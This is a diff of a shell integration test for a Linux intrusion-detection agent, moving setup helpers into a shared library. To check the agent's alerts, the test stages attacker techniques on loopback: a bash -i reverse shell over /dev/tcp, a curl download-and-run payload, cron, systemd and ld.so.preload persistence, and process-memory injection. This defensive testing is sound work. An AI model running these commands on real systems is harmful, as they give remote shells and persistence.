@@ -48,29 +48,15 @@
 # The agent folds repeats of a rule on one process tree into one alert that
 # keeps its first event, so each step runs in a process tree of its own.
 #
-# Usage: detect.sh bpf|cnproc   (env: VIGIL_AGENT, DETECT_HELPER, VIGIL_RULES).
+# Usage: detect.sh bpf|cnproc   (env: VIGIL_AGENT, BEHAVE, VIGIL_RULES).
 # Needs root (and BTF for bpf); exits 77 when it cannot run here.
 set -eu
 
-SENSOR=${1:-}
 AGENT=${VIGIL_AGENT:-build/vigil-agent}
-HELPER=${DETECT_HELPER:-build/tests/integration/detect-helper}
 RULES=${VIGIL_RULES:-rules}
-case $SENSOR in
-bpf|cnproc) ;;
-*) echo "usage: detect.sh bpf|cnproc" >&2; exit 2 ;;
-esac
-
-skip() { echo "SKIP: $*"; exit 77; }
-[ "$(id -u)" = 0 ] || skip "the $SENSOR sensor needs root"
-[ "$SENSOR" != bpf ] || [ -r /sys/kernel/btf/vmlinux ] || skip "no /sys/kernel/btf/vmlinux: this kernel has no BTF"
-command -v jq >/dev/null || skip "jq is not installed"
-[ -x "$HELPER" ] || { echo "FAIL: no detect-helper at '$HELPER'" >&2; exit 1; }
-[ -d "$RULES" ] || { echo "FAIL: no rules folder at '$RULES'" >&2; exit 1; }
-usage_out=$("$AGENT" detect --help 2>&1 || true)
-case $usage_out in
-*"unknown command"*) skip "this vigil-agent has no 'detect' command yet" ;;
-esac
+. "$(dirname "$0")/lib.sh"
+per_sensor "${1:-}"
+need_detect
 
 # rule ids (the `id` of each rule file)
 R_TEMP=6e8a6112-1690-4821-b64d-dda59be27afa
@@ -99,31 +85,25 @@ R_PROFILE_USER=95993fc6-8449-455f-b8d6-157546b44a12
 R_LDSO=f64229bc-1c3e-4c79-b529-fdf56de42791
 R_BUILTIN_DL=8a4c2f17-5e3b-4d6a-9c81-2b7e0f3d6a95     # agent/src/detect_builtin.h
 
-T=$(mktemp -d /tmp/vigil-detect-XXXXXX)
-chmod 755 "$T"          # uid 65534 runs the setuid and capability copies from here
 M=vigil-detect-$$       # in every name this test gives, so that only its activity counts
 # how long the payloads live: the proc connector reads a process's image and
 # arguments from /proc after the fact, so they must still be there
 if [ "$SENSOR" = bpf ]; then MS=300; else MS=1000; fi
-AL=$T/alerts.jsonl      # what the agent printed
-AGENT_PID=""
-BG_PIDS=""
 CRON_FILE=/etc/cron.d/vigil-test-$$
 UNIT_FILE=/etc/systemd/system/vigil-test-$$.service
 SHM_FILE=/dev/shm/$M
 LDSO_CREATED=""
 PRIV_DIR=""
+make_temp detect
+chmod 755 "$T"          # uid 65534 runs the setuid and capability copies from here
+AL=$T/alerts.jsonl      # what the agent printed
 cleanup() {
-    for p in $BG_PIDS; do kill "$p" 2>/dev/null || true; done
-    [ -n "$AGENT_PID" ] && kill "$AGENT_PID" 2>/dev/null || true
-    wait 2>/dev/null || true
+    end_processes
     rm -f "$CRON_FILE" "$UNIT_FILE" "$SHM_FILE"
     [ -n "$LDSO_CREATED" ] && rm -f /etc/ld.so.preload
     [ -n "$PRIV_DIR" ] && [ "$PRIV_DIR" != "$T" ] && rm -rf "$PRIV_DIR"
-    if [ -n "${VIGIL_TEST_KEEP:-}" ]; then echo "kept $T"; else rm -rf "$T"; fi
+    remove_temp
 }
-trap cleanup EXIT
-trap 'exit 1' INT TERM
 
 # The alert's fields (docs/DETECTION.md): rule_id, title, source ("sigma" or
 # "builtin"), severity, techniques ["T1059.004"], tactics, process, ancestors,
@@ -193,28 +173,11 @@ done
 # the default watch list of detect: the sensor's (/etc/, cron, systemd units,
 # authorized_keys, ld.so.preload, profiles) and /tmp/, /var/tmp/, /dev/shm/,
 # where the built-in detector sees downloads land and $T/home lies
-"$AGENT" detect --sensor="$SENSOR" --rules "$RULES" --output json >"$AL" 2>"$T/agent.log" &
-AGENT_PID=$!
-i=0
-until grep -q "running" "$T/agent.log"; do
-    if ! kill -0 "$AGENT_PID" 2>/dev/null; then
-        rc=0
-        wait "$AGENT_PID" || rc=$?
-        AGENT_PID=""
-        [ "$rc" -eq 3 ] && skip "the $SENSOR sensor cannot run here: $(cat "$T/agent.log")"
-        fail "the agent exited ($rc) before its sensor ran"
-    fi
-    i=$((i + 1))
-    [ $i -lt 300 ] || fail "the agent did not start its sensor in 30 s"
-    sleep 0.1
-done
+start_agent "$AL" 30 detect --sensor="$SENSOR" --rules "$RULES" --output json
 grep "running" "$T/agent.log" | tail -n 1
 
-# tree CMD ARG...: runs CMD as the child of a shell of its own. The agent folds
-# repeats of a rule on one process tree (the subject's parent) into the alert
-# it opened first, which keeps its first event; so each step runs in a tree of
-# its own, to get an alert of its own.
-tree() { sh -c '"$@"; rc=$?; exit $rc' tree "$@"; }
+# (each step runs in a process tree of its own, to get an alert of its own:
+# see tree in lib.sh)
 
 # --- execution from temporary folders, from memory, from a deleted file
 tree "$T/payload" sleep-ms $MS
@@ -295,14 +258,7 @@ tree "$HELPER" proc-mem-write >/dev/null || fail "proc-mem-write failed"
 
 # --- a reverse shell: bash -i with its stdio on a TCP connection to a
 # listener of this test on 127.0.0.1; HOME is empty so that no .bashrc runs
-"$HELPER" listen "$T/port" "$M" >"$T/listen.out" &
-LISTENER=$!
-BG_PIDS="$BG_PIDS $LISTENER"
-i=0
-until [ -s "$T/port" ]; do
-    i=$((i + 1)); [ $i -lt 100 ] || fail "the listener did not start"; sleep 0.05
-done
-PORT=$(cat "$T/port")
+start_listener "$M"
 tree env HOME="$T/rshome" bash -c "bash -i >& /dev/tcp/127.0.0.1/$PORT 0>&1" 2>/dev/null || fail "the reverse shell failed"
 wait "$LISTENER" || fail "the listener failed"
 grep -q "$M-ok" "$T/listen.out" || fail "the reverse shell did not answer"
@@ -311,14 +267,7 @@ grep -q "$M-ok" "$T/listen.out" || fail "the reverse shell did not answer"
 DL=""
 if command -v python3 >/dev/null && command -v curl >/dev/null; then
     cp "$HELPER" "$T/www/payload"
-    python3 -u -m http.server --bind 127.0.0.1 --directory "$T/www" 0 >"$T/http.log" 2>&1 &
-    HTTPD=$!
-    BG_PIDS="$BG_PIDS $HTTPD"
-    i=0
-    until grep -q "port [0-9]" "$T/http.log" 2>/dev/null; do
-        i=$((i + 1)); [ $i -lt 200 ] || fail "the loopback HTTP server did not start: $(cat "$T/http.log")"; sleep 0.05
-    done
-    HPORT=$(sed -n 's/.* port \([0-9][0-9]*\).*/\1/p' "$T/http.log" | head -n 1)
+    start_httpd "$T/www"
     DL=$T/dl/payload-$M
     tree curl -sSf -o "$DL" "http://127.0.0.1:$HPORT/payload" || fail "the download failed"
     chmod +x "$DL"
@@ -352,22 +301,8 @@ fi
 # --- stop the agent once it has reported everything above: a last program
 # run from /tmp raises an alert; once it is printed, so is all that came before
 tree "$T/end-marker" sleep-ms $MS
-i=0
-until grep -F "$T/end-marker" "$AL" >/dev/null 2>&1; do
-    kill -0 "$AGENT_PID" 2>/dev/null || fail "the agent exited"
-    i=$((i + 1)); [ $i -lt 600 ] || fail "the agent did not report the end marker within 120 s"
-    sleep 0.2
-done
-kill -TERM "$AGENT_PID"
-i=0
-while kill -0 "$AGENT_PID" 2>/dev/null && [ "$(ps -o stat= -p "$AGENT_PID")" != Z ]; do
-    i=$((i + 1)); [ $i -lt 300 ] || fail "the agent did not stop within 30 s of SIGTERM"; sleep 0.1
-done
-rc=0
-wait "$AGENT_PID" || rc=$?
-AGENT_PID=""
-[ "$rc" -eq 0 ] || fail "the agent exited with $rc on SIGTERM"
-jq -e . "$AL" >/dev/null || fail "the output is not JSON lines"
+await_output "the end marker" -F "$T/end-marker"
+stop_agent
 
 echo "--- alerts about this test"
 grep -F -e "$T" -e "$M" -e "$HELPER" -e "vigil-test-$$" -e /etc/ld.so.preload "$AL" | jq -r "$jq_defs brief" || true
@@ -421,8 +356,8 @@ if [ -n "$DL" ]; then
     expect "downloaded payload run from /tmp" $R_TEMP medium T1204.002 "$DL"
 fi
 if [ "$SENSOR" = bpf ]; then
-    expect "process_vm_writev into another process" $R_VMWRITE high T1055 "detect-helper vm-write"
-    expect "write to /proc/PID/mem of another process" $R_PROCMEM high T1055.009 "detect-helper proc-mem-write"
+    expect "process_vm_writev into another process" $R_VMWRITE high T1055 "${HELPER##*/} vm-write"
+    expect "write to /proc/PID/mem of another process" $R_PROCMEM high T1055.009 "${HELPER##*/} proc-mem-write"
     expect "reverse shell: bash connecting out" $R_SHELLNET medium T1059.004,T1095 "/dev/tcp/127.0.0.1/$PORT"
     expect "cron file written" $R_CRON medium T1053.003 "$CRON_FILE"
     expect "systemd unit written" $R_SYSTEMD medium T1543.002 "$UNIT_FILE"
